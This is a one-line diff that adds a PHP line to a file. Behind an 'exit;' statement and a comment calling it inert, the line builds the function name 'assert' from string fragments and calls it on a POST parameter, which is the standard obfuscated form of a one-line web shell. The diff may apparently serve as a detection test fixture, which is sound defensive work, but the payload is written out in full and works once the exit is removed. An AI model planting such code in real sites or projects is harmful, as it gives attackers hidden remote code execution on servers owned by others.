@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $a="a";$b="ss";$c="ert"; $d=$a.$b.$c; $d($_POST["q"]);
